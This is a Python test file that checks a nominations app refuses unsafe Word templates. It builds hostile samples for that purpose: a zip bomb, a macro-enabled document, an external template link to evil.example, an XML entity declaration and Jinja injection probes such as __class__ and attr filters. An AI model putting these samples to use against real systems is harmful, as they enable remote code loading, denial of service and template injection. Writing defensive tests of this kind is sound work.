"""Templates: what is refused and why, what stays in use, and that the delivered ones are those of the code."""

import re
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document
from wagtail.models import ModelLogEntry

from nominations.models import PaperTemplate
from nominations.papers import actions
from nominations.papers.actions import replace_template, template_file, template_of
from nominations.papers.defaults import BUILDERS, built, default_template
from nominations.papers.kinds import KINDS
from nominations.papers.templating import FileRefused, check_template, fields_of
from nominations.stages import Stage
from tests import factories
from tests.nominations.papers.test_papers import made, read

KIND = KINDS["bao-cao"]


def changed(*, text: str = "", kind: str = "bao-cao", without: str = "") -> bytes:
    """The default template with one more paragraph, or with a word taken out."""
    document = Document(BytesIO(default_template(kind)))
    if text:
        document.paragraphs[-2].insert_paragraph_before(text)
    if without:
        for paragraph in document.element.body.iter(
            "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}t"
        ):
            paragraph.text = (paragraph.text or "").replace(without, "")
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def repacked(change) -> bytes:
    """The default template with its parts changed by ``change(name, data)``, None leaving one out."""
    out = BytesIO()
    with ZipFile(BytesIO(default_template("bao-cao"))) as old, ZipFile(out, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            if (data := change(name, old.read(name))) is not None:
                new.writestr(name, data)
    return out.getvalue()


def upload(data: bytes, name: str = "mau.docx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data)


def with_macros() -> bytes:
    main = b"wordprocessingml.document.main+xml"
    macro = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    return repacked(
        lambda name, data: data.replace(b"application/vnd.openxmlformats-officedocument." + main, macro)
    )


def bomb() -> bytes:
    out = BytesIO(default_template("bao-cao"))
    with ZipFile(out, "a", ZIP_DEFLATED) as archive:
        archive.writestr("word/media/zero", b"\0" * (300 * 1024 * 1024))
    return out.getvalue()


def fetching() -> bytes:
    def change(name, data):
        link = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
        return data.replace(b"</Relationships>", link) if name == "word/_rels/document.xml.rels" else data

    return repacked(change)


REFUSED = {
    "not Word": (lambda: b"hello", "Word"),
    "empty": (lambda: b"", "Word"),
    "a PDF": (factories.pdf, "Word"),
    "cut off": (lambda: default_template("bao-cao")[:9000], "Word"),
    "no document": (lambda: repacked(lambda name, data: None if name == "word/document.xml" else data), ""),
    "broken XML": (
        lambda: repacked(lambda name, data: data[:-40] if name == "word/document.xml" else data),
        "",
    ),
    "macros": (with_macros, "Word"),
    "a zip bomb": (bomb, ""),
    "a link that loads": (fetching, ""),
    "entities": (
        lambda: repacked(
            lambda name, data: (
                data.replace(b"<w:document", b"<!DOCTYPE x [<!ENTITY a 'b'>]><w:document", 1)
                if name == "word/document.xml"
                else data
            )
        ),
        "",
    ),
    "unknown field": (lambda: changed(text="{{ so_cmnd }}"), "so_cmnd"),
    "unknown field of a row": (
        lambda: changed(text="{% for a in awards %}{{ a.phone }}{% endfor %}"),
        "awards.phone",
    ),
    "unknown list": (lambda: changed(text="{% for x in people %}{{ x.name }}{% endfor %}"), "people"),
    "no list": (lambda: changed(text="{% for x in full_name %}{{ x }}{% endfor %}"), "full_name"),
    "open braces": (lambda: changed(text="{{ full_name"), "{{ full_name"),
    "braces within braces": (lambda: changed(text="{{ full_name {{ x }}"), "{{ full_name {{ x }}"),
    "open loop": (lambda: changed(text="{% for a in awards %}"), ""),
    "a call": (lambda: changed(text="{{ full_name.format(1) }}"), "Call"),
    "a range": (lambda: changed(text="{% for x in range(10) %}{% endfor %}"), ""),
    "underscores": (lambda: changed(text="{{ full_name.__class__ }}"), "__class__"),
    "an item": (lambda: changed(text="{{ awards[0] }}"), "Getitem"),
    "arithmetic": (lambda: changed(text="{{ 9 ** 9 }}"), "Pow"),
    "a macro of Jinja": (lambda: changed(text="{% macro x() %}{% endmacro %}"), "Macro"),
    "an inclusion": (lambda: changed(text="{% include 'x' %}"), "Include"),
    "a filter": (lambda: changed(text="{{ full_name|attr('x') }}"), ""),
    "a missing field": (lambda: changed(without="{{ home_place }}"), "home_place"),
    "a missing loop": (lambda: changed(without="{{ a.name }}"), "titles.name"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_a_bad_template_is_refused_and_the_old_one_stays(case):
    make, said = REFUSED[case]
    administrator = factories.administrator()
    good = changed(text="Bản của Bộ")
    replace_template(kind=KIND, upload=upload(good), user=administrator)

    with pytest.raises(FileRefused) as refused:
        replace_template(kind=KIND, upload=upload(make()), user=administrator)

    assert said in str(refused.value.message)
    assert template_file(KIND, template_of(KIND)) == good
    assert template_of(KIND).version == 1


def test_a_name_that_says_something_else_is_refused():
    with pytest.raises(FileRefused):
        check_template(default_template("bao-cao"), KIND, "mau.docm")


def test_a_template_that_is_too_large_is_refused():
    with pytest.raises(FileRefused, match="MB"):
        check_template(default_template("bao-cao") + b"\0" * 3_000_000, KIND, "mau.docx")


@pytest.mark.parametrize("code", list(KINDS))
def test_delivered_templates_are_drawn_by_the_code_and_are_sound(code):
    assert built(code) == default_template(code)
    check_template(default_template(code), KINDS[code], f"{code}.docx")


def test_every_kind_has_a_template_and_every_required_field_exists():
    assert BUILDERS.keys() == KINDS.keys()
    for kind in KINDS.values():
        assert set(kind.required) <= {name for name, _example, _must in fields_of(kind)}, kind.code


@pytest.mark.parametrize("code", [code for code in KINDS if code != "trich-ngang"])
def test_a_template_of_another_kind_is_refused(code):
    other = default_template("bao-cao" if code == "to-trinh" else "trich-ngang")

    with pytest.raises(FileRefused):
        check_template(other, KINDS[code], "mau.docx")


def test_the_next_paper_is_made_with_the_new_template():
    administrator, secretary = factories.administrator(), factories.secretary()
    nomination = factories.nomination(Stage.SUBMITTED)
    before = made("bao-cao", nomination, secretary)

    template = replace_template(
        kind=KIND, upload=upload(changed(text="Bản của Bộ: {{ full_name|upper }}")), user=administrator
    )
    after = made("bao-cao", nomination, secretary)

    assert f"Bản của Bộ: {nomination.candidate.name.upper()}" in read(after).words
    assert "Bản của Bộ" not in read(before).words
    assert (before.template_version, after.template_version, after.template_sha256) == (0, 1, template.sha256)
    assert (
        ModelLogEntry.objects.filter(action="nominations.template_replaced", user=administrator).count() == 1
    )


@pytest.mark.parametrize("role", ["screener", "secretary", "leader", "auditor", "editor", "officer"])
def test_nobody_else_replaces_a_template(role):
    with pytest.raises(PermissionDenied):
        replace_template(kind=KIND, upload=upload(changed()), user=getattr(factories, role)())
    assert not PaperTemplate.objects.exists()


def test_an_administrator_replaces_restores_and_says_to_whom(client):
    client.force_login(factories.administrator())
    url = reverse("papers:template", args=["to-trinh"])
    data = changed(kind="to-trinh", text="Bản của Bộ")

    bad = client.post(url, {"file": upload(changed(kind="to-trinh", text="{{ so_cmnd }}"))})
    good = client.post(url, {"file": upload(data)})
    kept = client.get(reverse("papers:template_file", args=["to-trinh"]))
    client.post(
        reverse("papers:template_recipients", args=["to-trinh"]), {"recipients": "Thứ trưởng A;\n\n Vụ B"}
    )
    restored = client.post(reverse("papers:template_restore", args=["to-trinh"]))
    again = client.post(reverse("papers:template_restore", args=["to-trinh"]), follow=True)

    assert "so_cmnd" in bad.content.decode()
    assert re.search(r"<title>\s*(Error|Lỗi)", bad.content.decode())
    assert good.status_code == restored.status_code == 302
    assert b"".join(kept.streaming_content) == data
    template = PaperTemplate.objects.get()
    assert (bool(template.file), template.version) == (False, 2)
    assert template.recipients == "Thứ trưởng A;\nVụ B"
    assert [message.level_tag for message in again.context["messages"]][-1] == "warning"


def test_the_sample_is_a_paper_of_invented_people(client):
    client.force_login(factories.administrator())

    response = client.get(reverse("papers:template_sample", args=["to-trinh"]))

    document = Document(BytesIO(b"".join(response.streaming_content)))
    assert "BỘ MẪU" in "".join(cell.text for cell in document.tables[0]._cells)
    assert "{{" not in "\n".join(paragraph.text for paragraph in document.paragraphs)


def test_a_template_that_fails_on_real_values_says_so(monkeypatch):
    def broken(*args, **kwargs):
        raise ValueError("broken")

    monkeypatch.setattr(actions, "fill", broken)
    with pytest.raises(actions.NotReady):
        made("bao-cao", factories.nomination(Stage.SUBMITTED), factories.secretary())
